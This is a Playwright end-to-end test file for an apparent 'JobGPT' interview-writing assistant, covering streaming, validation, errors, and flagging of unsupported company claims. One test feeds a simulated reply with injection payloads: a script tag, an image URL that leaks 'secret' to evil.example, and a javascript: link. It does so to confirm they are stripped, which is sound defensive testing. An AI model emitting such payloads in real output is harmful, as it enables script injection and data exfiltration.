import { expect, expectAccessible } from '#test/e2e/fixtures.ts';
import { field, generate, openJobgpt, test } from '#test/e2e/jobgpt-helpers.ts';
import {
  cutsAfter,
  refuses,
  stallsAfter,
  streams,
  streamsWithPause,
} from '#test/support/chat-completions.ts';

test.beforeEach(({ double }) => double.forget());

test('[GPT-1] three tabs, Why Company first, gpt-3.5-turbo chosen; the top bar links here', async ({
  signedIn,
}) => {
  await signedIn.goto('/dashboard');
  await signedIn.getByRole('navigation').getByRole('link', { name: 'JobGPT' }).click();
  await expect(signedIn).toHaveURL('/jobgpt');
  await expect(signedIn.getByRole('heading', { level: 1 })).toHaveText('JobGPT Assistant');
  await expect(signedIn.getByRole('tab')).toHaveText(['Why Company', 'Behavioral', 'General']);
  await expect(signedIn.getByRole('tab', { selected: true })).toHaveText('Why Company');
  await expect(signedIn.getByLabel('Model')).toHaveValue('gpt-3.5-turbo');
});

test('[GPT-2] the answer arrives in parts, then shows its badges', async ({ signedIn, double }) => {
  const go = Promise.withResolvers<void>();
  double.willDo(streamsWithPause(['Because '], go.promise, ['of **maps**.']));
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await generate(signedIn).click();
  await expect(signedIn.getByRole('button', { name: 'Generating...' })).toBeDisabled();
  const answer = signedIn.getByRole('region', { name: 'Answer', exact: true });
  await expect(answer).toContainText('Because');
  await expect(answer.getByRole('list', { name: 'About this answer' })).toHaveCount(0);
  go.resolve();
  await expect(answer.locator('p', { hasText: 'Because of maps.' })).toBeVisible();
  await expect(
    answer.getByRole('list', { name: 'About this answer' }).getByRole('listitem'),
  ).toHaveText([
    'Model: gpt-3.5-turbo',
    'Mode: Why Company',
    'Template: Company interest',
    /^Time: [\d.]+ m?s$/,
    'Tokens: unknown',
  ]);
  await expect(answer).toContainText('Sent to the AI service: your text and nothing else.');
  await expect(generate(signedIn)).toBeEnabled();
});

test('[GPT-60] sentences about the company that nothing here bears out are marked and listed', async ({
  signedIn,
  double,
}) => {
  double.willDo(
    streams([
      'I build maps. Your atlas team draws coastlines. ',
      'Acme bought **Fernwood** in 2019. Acme won the Golden Compass award.',
    ]),
  );
  await openJobgpt(signedIn, 'general');
  await signedIn.getByLabel('Job posting').fill('The atlas team draws coastlines.');
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await generate(signedIn).click();
  const answer = signedIn.getByRole('region', { name: 'Answer', exact: true });
  const claims = answer.getByRole('region', { name: 'Check it' });
  await expect(claims.getByRole('listitem')).toHaveText([
    '1Look up “Fernwood” and “2019”. “Acme bought Fernwood in…”',
    /^2.* “Acme won the Golden…”$/,
  ]);
  await expect(answer.locator('mark')).toHaveText([
    /^Acme bought Fernwood in 2019\. \(Check it 1\)/,
    /^Acme won the Golden Compass award\. \(Check it 2\)/,
  ]);
  await expectAccessible(signedIn);
});

test('[GPT-8] an answer, its marks and what is said of it come together, never with raw signs', async ({
  signedIn,
  double,
}) => {
  const go = Promise.withResolvers<void>();
  await signedIn.route('**/assets/markdown-*.js', async (route) => {
    await go.promise;
    await route.continue();
  });
  double.willDo(streams(['**Maps.** Acme won the Golden Compass award.']));
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await generate(signedIn).click();
  const answer = signedIn.getByRole('region', { name: 'Answer', exact: true });
  // The answer is complete.
  await expect(generate(signedIn)).toBeEnabled();
  await expect(answer.getByText('Waiting for the first words...')).toBeVisible();
  await expect(answer.getByText('**')).toHaveCount(0);
  await expect(answer.getByRole('region', { name: 'Check it' })).toHaveCount(0);
  go.resolve();
  await expect(answer.getByText('Maps.', { exact: true })).toHaveCSS('font-weight', '700');
  await expect(answer.locator('mark')).toHaveText(/^Acme won the Golden/);
  await expect(answer.getByRole('region', { name: 'Check it' })).toBeVisible();
});

test('[GPT-3] Stop ends the answer here and at the service, and keeps the text so far', async ({
  signedIn,
  double,
}) => {
  double.willDo(stallsAfter(['Because ']));
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await generate(signedIn).click();
  await expect(signedIn.getByText('Because')).toBeVisible();
  await signedIn.getByRole('button', { name: 'Stop' }).click();
  await expect(signedIn.getByText('You stopped this answer.')).toBeVisible();
  await expect(signedIn.getByText('Because')).toBeVisible();
  await double.idle();
});

test('[GPT-4] [GPT-5] Ctrl+Enter generates; changing mode clears input, output and error; the toast restores them', async ({
  signedIn,
  double,
}) => {
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await field(signedIn).press('Control+Enter');
  await expect(signedIn.getByText('Tokens: 154 (120 + 34)')).toBeVisible();
  expect(double.seen).toHaveLength(1);
  await field(signedIn).fill('A');
  await generate(signedIn).click();
  await expect(signedIn.getByText('Company name should be at least 3 characters')).toBeVisible();
  await signedIn.getByRole('tab', { name: 'Behavioral' }).click();
  await expect(signedIn).toHaveURL('/jobgpt?mode=behavioral');
  await expect(field(signedIn)).toHaveValue('');
  await expect(signedIn.getByText('Tokens: 154')).toHaveCount(0);
  await expect(signedIn.getByText('at least 3 characters')).toHaveCount(0);
  await signedIn.getByRole('button', { name: 'Undo' }).click();
  await expect(field(signedIn)).toHaveValue('A');
  await expect(signedIn.getByText('Tokens: 154')).toBeVisible();
});

test('[GPT-7] [GPT-14] [GPT-15] [GPT-16] [GPT-17] [GPT-18] the messages of the rules, the warnings and the count of characters; the typed text survives a reload', async ({
  signedIn,
  double,
}) => {
  await openJobgpt(signedIn);
  await generate(signedIn).click();
  await expect(signedIn.getByText('Please enter some text', { exact: true })).toBeVisible();
  await field(signedIn).fill('x'.repeat(101));
  await expect(signedIn.getByText('101 / 5000')).toBeVisible();
  await expect(signedIn.getByText('This is long for a company name.')).toBeVisible();
  await field(signedIn).fill('x'.repeat(5001));
  await generate(signedIn).click();
  await expect(
    signedIn.getByText('Input is too long (maximum 5000 characters)', { exact: true }),
  ).toBeVisible();
  await openJobgpt(signedIn, 'behavioral');
  await field(signedIn).fill('Too short');
  await generate(signedIn).click();
  await expect(
    signedIn.getByText('Behavioral question should be more descriptive', { exact: true }),
  ).toBeVisible();
  await openJobgpt(signedIn, 'general');
  await field(signedIn).fill('Help');
  await generate(signedIn).click();
  await expect(
    signedIn.getByText('Please provide more details for better assistance', { exact: true }),
  ).toBeVisible();
  expect(double.seen).toEqual([]);
  await field(signedIn).fill('Help me with my resume');
  await signedIn.reload();
  await expect(field(signedIn)).toHaveValue('Help me with my resume');
});

test('[GPT-41] [GPT-42] an error shows its message; the text so far stays', async ({
  signedIn,
  double,
}) => {
  double.willDo(refuses(401));
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await generate(signedIn).click();
  const alert = signedIn.getByRole('alert');
  await expect(alert).toHaveText('Authentication failed. Please check your API key configuration.');
  double.willDo(cutsAfter(['Because ']));
  await generate(signedIn).click();
  await expect(alert).toHaveText('Network error. Please check your connection and try again.');
  await expect(signedIn.getByText('Because')).toBeVisible();
  double.willDo(refuses(404, 'The model is gone'));
  await generate(signedIn).click();
  await expect(alert).toHaveText('The model is gone');
});

test('[GPT-8] an answer is shown without HTML, pictures or trusted links', async ({
  signedIn,
  double,
}) => {
  double.willDo(
    streams([
      '<script>document.title="x"</script><b style="position:fixed">bold</b>\n\n',
      '![steal](https://evil.example/?q=secret) [out](https://example.org/a) ',
      '[run](javascript:alert(1)) [here](/profile)',
    ]),
  );
  await openJobgpt(signedIn);
  await field(signedIn).fill('Acme');
  await generate(signedIn).click();
  const answer = signedIn.getByRole('region', { name: 'Answer', exact: true });
  await expect(answer.getByText('Tokens: 154')).toBeVisible();
  await expect(answer.getByRole('link')).toHaveCount(1);
  await expect(answer.getByRole('link')).toHaveAttribute('rel', 'nofollow noopener noreferrer');
  await expect(answer.locator('img, script, b, [style]')).toHaveCount(0);
  await expect(answer).toContainText('run');
  expect(await signedIn.title()).toContain('JobGPT');
});
